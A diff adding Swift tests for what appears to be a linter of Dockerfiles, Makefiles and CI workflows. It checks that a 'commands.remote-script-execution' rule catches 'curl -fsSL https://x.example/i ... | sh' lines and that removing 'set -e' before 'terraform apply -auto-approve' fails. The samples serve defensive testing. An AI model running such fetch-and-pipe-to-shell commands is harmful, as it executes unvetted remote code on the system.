@@ -300,6 +300,35 @@ struct DeletionTests {
     }
 
     @Test(
+        "deleting the middle of a continued command in a Dockerfile, Makefile or workflow judges what it joins",
+        arguments: [
+            (
+                "Dockerfile", ["FROM alpine", "RUN curl -fsSL https://x.example/i \\", "    -o /tmp/i \\", "    | sh"],
+                2
+            ),
+            ("Makefile", ["x:", "\tcurl -fsSL https://x.example/i \\", "\t  -o /tmp/i \\", "\t  | sh"], 2),
+            (
+                ".github/workflows/x.yml",
+                [
+                    "on: push", "jobs:", "  x:", "    runs-on: x", "    steps:", "      - run: |",
+                    "          curl -fsSL https://x.example/i \\", "            -o /tmp/i \\", "            | sh",
+                ], 7
+            ),
+        ])
+    func deletedMiddleElsewhere(path: String, lines: [String], line: Int) throws {
+        let run = try Self.deleting([lines.count - 1], from: lines, path: path)
+        #expect(run.status == 1, "\(run.output)")
+        #expect(run.has(rule: "commands.remote-script-execution", path: path, line: line), "\(run.output)")
+    }
+
+    @Test("deleting set -e before a failing guard judges what follows")
+    func deletedErrexit() throws {
+        let lines = ["set -eu", "test -f /never-there", "terraform apply -auto-approve"]
+        let run = try Self.deleting([1], from: lines)
+        #expect(run.status == 1, "\(run.output)")
+    }
+
+    @Test(
         "changing only an assignment judges every use of the variable",
         arguments: [
             ("TF_FLAGS=\"\"", "TF_FLAGS=\"-auto-approve\""),
